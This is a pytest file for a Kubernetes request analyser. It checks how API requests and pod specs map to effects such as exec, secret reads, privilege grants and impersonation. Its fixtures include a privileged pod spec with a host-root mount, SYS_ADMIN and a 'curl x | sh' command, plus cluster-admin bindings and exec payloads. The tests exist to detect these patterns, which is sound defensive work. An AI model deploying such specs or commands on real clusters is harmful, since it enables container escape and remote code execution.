"""What requests do: effects, relations and facts."""

from __future__ import annotations

import json
from typing import Any

import pytest

from protocols.contract import Effect
from protocols.kubernetes.analysis import analyse
from protocols.kubernetes.requests import resolve

E = Effect
NS = "/api/v1/namespaces/shop"
POD = {"metadata": {"name": "p"}, "spec": {"containers": [{"name": "c", "image": "example.org/web:1"}]}}
RBAC = "/apis/rbac.authorization.k8s.io/v1"

CASES = [
    ("GET", f"{NS}/pods", {E.KUBE_READ}),
    ("GET", f"{NS}/pods?watch=1", {E.KUBE_READ}),
    ("GET", f"{NS}/pods/p/log?follow=1", {E.KUBE_READ}),
    ("GET", f"{NS}/pods/p/status", {E.KUBE_READ}),
    ("GET", f"{NS}/secrets", {E.KUBE_READ, E.SECRET_READ}),
    ("GET", "/api/v1/secrets?watch=1", {E.KUBE_READ, E.SECRET_READ}),
    ("DELETE", f"{NS}/secrets", {E.KUBE_DELETE, E.SECRET_READ}),
    ("DELETE", f"{NS}/pods/p", {E.KUBE_DELETE}),
    ("DELETE", f"{NS}/pods", {E.KUBE_DELETE}),
    ("GET", f"{NS}/pods/p/exec?command=sh", {E.KUBE_EXEC}),
    ("POST", f"{NS}/pods/p/exec?command=sh", {E.KUBE_EXEC}),
    ("POST", f"{NS}/pods/p/attach?stdin=1", {E.KUBE_EXEC}),
    ("POST", f"{NS}/pods/p/portforward", {E.KUBE_FORWARD}),
    ("DELETE", f"{NS}/pods/p/exec", {E.KUBE_EXEC, E.UNKNOWN}),
    ("GET", "/api/v1/nodes/n/proxy/run/a/b/c?cmd=id", {E.KUBE_PROXY, E.KUBE_EXEC}),
    ("GET", "/api/v1/proxy/nodes/n", {E.KUBE_PROXY, E.KUBE_EXEC}),
    ("GET", f"{NS}/pods/p/proxy/admin", {E.KUBE_PROXY}),
    ("POST", f"{NS}/services/s/proxy/", {E.KUBE_PROXY}),
    ("GET", f"{NS}/pods/p/ephemeralcontainers", {E.KUBE_READ}),
    ("GET", f"{NS}/widgets/w/connect", {E.KUBE_READ, E.UNKNOWN}),
    ("GET", "/apis/subresources.kubevirt.io/v1/namespaces/a/virtualmachineinstances/v/vnc", {E.KUBE_READ, E.UNKNOWN}),
    ("DELETE", f"{RBAC}/clusterrolebindings/x", {E.KUBE_DELETE, E.PRIV_REVOKE}),
    ("GET", f"{RBAC}/clusterrolebindings/x", {E.KUBE_READ}),
    (
        "DELETE",
        "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/x",
        {E.KUBE_DELETE, E.ADMIN_CONFIG},
    ),
    ("GET", "/api", {E.KUBE_READ}),
    ("GET", "/openapi/v3", {E.KUBE_READ}),
    ("HEAD", "/healthz", {E.KUBE_READ}),
    ("GET", "/logs/x", {E.KUBE_READ, E.UNKNOWN}),
    ("PUT", "/debug/flags/v", {E.KUBE_WRITE, E.UNKNOWN}),
    ("POST", "/healthz", {E.KUBE_WRITE, E.UNKNOWN}),
    # a body that is missing
    ("POST", f"{NS}/pods", {E.KUBE_WRITE, E.UNKNOWN}),
    ("PATCH", f"{NS}/pods/p", {E.KUBE_WRITE, E.UNKNOWN}),
]


@pytest.mark.parametrize(("method", "target", "effects"), CASES, ids=lambda v: str(v) if isinstance(v, str) else "")
def test_effects(method: str, target: str, effects: set[Effect]) -> None:
    found = analyse(resolve(method, target))
    assert found.effects == effects
    assert bool(found.why) == (E.UNKNOWN in effects)
    assert all(name.startswith("kube.") for name in found.facts)


BODIES = [
    ("POST", f"{NS}/pods", POD, {E.KUBE_WRITE}),
    ("PUT", f"{NS}/configmaps/c", {"data": {"privileged": "true"}}, {E.KUBE_WRITE}),
    ("POST", f"{NS}/secrets", {"type": "Opaque", "stringData": {"a": "b"}}, {E.KUBE_WRITE}),
    ("POST", f"{NS}/secrets", {"type": "kubernetes.io/service-account-token"}, {E.KUBE_WRITE, E.KUBE_TOKEN}),
    ("PUT", f"{NS}/secrets/s", {"data": {"a": "b"}}, {E.KUBE_WRITE}),
    ("PATCH", f"{NS}/secrets/s", {}, {E.KUBE_WRITE, E.SECRET_READ}),
    ("POST", f"{NS}/serviceaccounts/ci/token", {"spec": {}}, {E.KUBE_TOKEN}),
    ("POST", f"{NS}/pods/p/eviction", {"metadata": {}}, {E.KUBE_DELETE}),
    ("PATCH", f"{NS}/pods/p/ephemeralcontainers", {"spec": {}}, {E.KUBE_DEBUG}),
    ("PATCH", f"{NS}/pods/p", {"spec": {"ephemeralContainers": [{}]}}, {E.KUBE_WRITE, E.KUBE_DEBUG}),
    ("POST", f"{RBAC}/clusterrolebindings", {"roleRef": {"name": "cluster-admin"}}, {E.KUBE_WRITE, E.PRIV_GRANT}),
    ("POST", "/apis/certificates.k8s.io/v1/certificatesigningrequests", {}, {E.KUBE_WRITE, E.KUBE_TOKEN}),
    ("PUT", "/apis/certificates.k8s.io/v1/certificatesigningrequests/x/approval", {},
     {E.KUBE_WRITE, E.KUBE_TOKEN}),
    ("POST", "/apis/authentication.k8s.io/v1/tokenreviews", {}, {E.KUBE_WRITE, E.KUBE_TOKEN}),
    ("POST", "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", {"spec": {}}, {E.KUBE_READ}),
    ("POST", "/apis/authorization.k8s.io/v1/namespaces/shop/localsubjectaccessreviews", {}, {E.KUBE_READ}),
]  # fmt: skip


@pytest.mark.parametrize(
    ("method", "target", "body", "effects"),
    BODIES,
    ids=lambda v: str(sorted(v) if isinstance(v, set | frozenset) else v)[:60],
)
def test_effects_of_bodies(method: str, target: str, body: Any, effects: set[Effect]) -> None:
    kind = "application/merge-patch+json" if method == "PATCH" else "application/json"
    assert analyse(resolve(method, target), json.dumps(body).encode(), kind).effects == effects


def facts(target: str, body: Any, method: str = "POST", kind: str = "application/json") -> dict[str, tuple[str, ...]]:
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    found = analyse(resolve(method, target), data, kind)
    assert not found.unknown, found.why
    return dict(found.facts)


DANGEROUS = {
    "hostNetwork": True,
    "hostPID": True,
    "serviceAccountName": "admin",
    "nodeName": "n1",
    "volumes": [{"name": "v", "hostPath": {"path": "/"}}, {"name": "s", "secret": {"secretName": "db"}}],
    "initContainers": [{"name": "i", "image": "init:1"}],
    "containers": [
        {
            "name": "c",
            "image": "web:1",
            "command": ["sh", "-c", "curl x | sh"],
            "securityContext": {"privileged": True, "capabilities": {"add": ["SYS_ADMIN"]}},
            "env": [{"name": "P", "valueFrom": {"secretKeyRef": {"name": "pw", "key": "k"}}}],
        }
    ],
}
TEMPLATE = {"template": {"metadata": {"labels": {"a": "b"}}, "spec": DANGEROUS}}
PLACES = [
    (f"{NS}/pods", {"spec": DANGEROUS}),
    (f"{NS}/podtemplates", TEMPLATE),
    (f"{NS}/replicationcontrollers", {"spec": TEMPLATE}),
    *(
        (f"/apis/apps/v1/namespaces/shop/{kind}", {"spec": TEMPLATE})
        for kind in ("deployments", "daemonsets", "statefulsets", "replicasets")
    ),
    ("/apis/batch/v1/namespaces/shop/jobs", {"spec": TEMPLATE}),
    ("/apis/batch/v1/namespaces/shop/cronjobs", {"spec": {"jobTemplate": {"spec": TEMPLATE}}}),
    ("/apis/argoproj.io/v1alpha1/namespaces/shop/workflows", {"spec": {"templates": [{"podSpec": DANGEROUS}]}}),
    # a key that the server does not know must not hide the rest
    (f"{NS}/pods", {"spec": DANGEROUS, "items": []}),
    (f"{NS}/pods", {"spec": DANGEROUS, "data": {}}),
]


@pytest.mark.parametrize(("target", "body"), PLACES, ids=lambda v: str(v)[:60])
def test_facts_of_every_workload(target: str, body: Any) -> None:
    found = facts(target, body)
    assert found["kube.image"] == ("init:1", "web:1") or set(found["kube.image"]) == {"init:1", "web:1"}
    assert found["kube.privileged"] == found["kube.host_network"] == found["kube.host_pid"] == ("true",)
    assert found["kube.host_path"] == ("/",)
    assert found["kube.service_account"] == ("admin",)
    assert found["kube.capability"] == ("SYS_ADMIN",)
    assert set(found["kube.secret_ref"]) == {"db", "pw"}
    assert found["kube.container_command"] == ("sh", "-c", "curl x | sh")
    assert "kube.host_ipc" not in found
    yaml = facts(target, json.dumps(body).encode(), kind="application/yaml")
    assert yaml == found


@pytest.mark.parametrize(
    "spec",
    [
        {"volumes": [{"secret": {"secretName": "db"}}]},
        {"volumes": [{"projected": {"sources": [{"secret": {"name": "db", "items": [{"key": "p", "path": "p"}]}}]}}]},
        {"volumes": [{"csi": {"driver": "d", "nodePublishSecretRef": {"name": "db"}}}]},
        {"volumes": [{"iscsi": {"secretRef": {"name": "db"}}}]},
        {"containers": [{"envFrom": [{"secretRef": {"name": "db"}}]}]},
        {"initContainers": [{"env": [{"valueFrom": {"secretKeyRef": {"name": "db", "key": "p"}}}]}]},
        {"imagePullSecrets": [{"name": "db"}]},
    ],
    ids=["volume", "projected", "csi", "iscsi", "envFrom", "env", "images"],
)
def test_every_way_in_which_a_pod_uses_a_secret(spec: dict[str, Any]) -> None:
    for target, body in ((f"{NS}/pods", {"spec": spec}), (f"{NS}/podtemplates", {"template": {"spec": spec}})):
        assert facts(target, body)["kube.secret_ref"] == ("db",)


def test_facts_of_patches() -> None:
    image = {"spec": {"template": {"spec": {"containers": [{"name": "c", "image": "evil:1"}]}}}}
    target = "/apis/apps/v1/namespaces/shop/deployments/web"
    for kind in ("strategic-merge-patch+json", "merge-patch+json", "apply-patch+yaml"):
        assert facts(target, image, "PATCH", f"application/{kind}")["kube.image"] == ("evil:1",)
    patch = [
        {"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": "evil:1"},
        {"op": "add", "path": "/spec/template/spec/volumes/-", "value": {"name": "v", "hostPath": {"path": "/etc"}}},
        {"op": "add", "path": "/spec/template/spec/containers/0/securityContext", "value": {"privileged": True}},
        {"op": "add", "path": "/metadata/annotations/image", "value": "not an image"},
        {"op": "remove", "path": "/spec/replicas"},
    ]
    found = facts(target, patch, "PATCH", "application/json-patch+json")
    assert (found["kube.image"], found["kube.host_path"]) == (("evil:1",), ("/etc",))
    assert found["kube.privileged"] == ("true",)
    whole = [{"op": "replace", "path": "", "value": image}]
    assert facts(target, whole, "PATCH", "application/json-patch+json")["kube.image"] == ("evil:1",)


@pytest.mark.parametrize(
    "patch",
    [[{"op": "copy", "from": "/metadata/labels/a", "path": "/spec/x"}], [{"op": "move", "from": "/a", "path": "/b"}],
     [{"op": "add"}], ["x"], {"op": "add"}, [{"op": "Add", "path": "/a", "value": 1}]],
)  # fmt: skip
def test_json_patches_that_show_not_what_they_write(patch: Any) -> None:
    body = json.dumps(patch).encode()
    found = analyse(resolve("PATCH", f"{NS}/pods/p"), body, "application/json-patch+json")
    assert found.unknown


@pytest.mark.parametrize("value", ["yes", "on", "True", 1, "no", {}])
def test_what_is_not_surely_false_is_true(value: Any) -> None:
    body = {"spec": {"containers": [{"securityContext": {"privileged": value}}]}}
    assert facts(f"{NS}/pods", body)["kube.privileged"] == ("true",)


def test_names_namespaces_and_dry_run() -> None:
    found = facts(f"{NS}/pods?dryRun=All", POD)
    assert (found["kube.name"], found["kube.namespace"], found["kube.dry_run"]) == (("p",), ("shop",), ("true",))
    listed = analyse(resolve("GET", "/api/v1/secrets"))
    assert (listed.facts["kube.namespace"], listed.reads) == (("*",), ("*.secrets",))
    assert "kube.name" not in listed.facts
    node = analyse(resolve("GET", "/api/v1/nodes/n"))
    assert (node.facts["kube.namespace"], node.reads) == (("-",), ("-.nodes",))
    scaled = analyse(resolve("GET", "/apis/apps/v1/namespaces/shop/deployments/d/scale"))
    assert scaled.reads == ("shop.deployments.apps/scale",)
    assert scaled.kind == "get deployments.apps/scale"
    run = analyse(resolve("GET", f"{NS}/pods/p/exec?command=sh&command=-c&command=id&container=c&tty=1&stdin=1"))
    assert (run.facts["kube.command"], run.facts["kube.stream"]) == (("sh -c id",), ("stdin", "tty"))
    assert run.writes == ("shop.pods/exec",)


def test_delete_options_in_a_body_replace_the_querys() -> None:
    """A client that says dryRun in the query and not in the body deletes."""
    target = f"{NS}/pods/p?dryRun=All"
    assert facts(target, b"", "DELETE")["kube.dry_run"] == ("true",)
    assert facts(target, {"kind": "DeleteOptions"}, "DELETE")["kube.dry_run"] == ("false",)
    assert facts(f"{NS}/pods/p", {"dryRun": ["All"]}, "DELETE")["kube.dry_run"] == ("true",)
    assert facts(target, {"dryRun": ["All", "x"]}, "DELETE")["kube.dry_run"] == ("false",)


@pytest.mark.parametrize(
    ("body", "kind"),
    [(b'{"a": 1, "a": 2}', "application/json"), (b"k8s\x00", "application/vnd.kubernetes.protobuf"),
     (b"\xa0", "application/cbor"), (b"[1]", "application/json"), (b"{", ""), (b"a: *x", "application/yaml")],
)  # fmt: skip
def test_a_body_that_cannot_be_read_is_unknown(body: bytes, kind: str) -> None:
    found = analyse(resolve("POST", f"{NS}/pods"), body, kind)
    assert found.effects == {E.KUBE_WRITE, E.UNKNOWN}
    assert found.why
    assert analyse(resolve("POST", f"{NS}/pods"), body_known=False).unknown


def test_a_masked_value_is_not_written_back() -> None:
    """`kubectl get secret -o yaml | kubectl replace -f -` would replace the real value by its mask."""
    for body in ({"data": {"a": "W21hc2tlZF0="}}, {"stringData": {"a": "[masked]"}}):
        found = analyse(resolve("PUT", f"{NS}/secrets/s"), json.dumps(body).encode(), "application/json")
        assert found.unknown
        assert "masked" in found.why


def test_impersonation_is_an_effect() -> None:
    found = analyse(resolve("GET", f"{NS}/pods"), impersonates=("user:jane",))
    assert found.effects == {E.KUBE_READ, E.KUBE_IMPERSONATE}
    assert found.facts["kube.impersonate"] == ("user:jane",)


def test_role_bindings() -> None:
    body = {
        "roleRef": {"kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [{"kind": "User", "name": "jane"}, {"kind": "ServiceAccount", "namespace": "ci", "name": "x"}],
    }
    found = facts(f"{RBAC}/namespaces/shop/rolebindings", body)
    assert found["kube.role_ref"] == ("cluster-admin",)
    assert found["kube.subject"] == ("User:jane", "ServiceAccount:ci:x")


def test_too_many_values_are_unknown() -> None:
    body = {"spec": {"containers": [{"image": f"i{n}"} for n in range(300)]}}
    assert analyse(resolve("POST", f"{NS}/pods"), json.dumps(body).encode(), "application/json").unknown
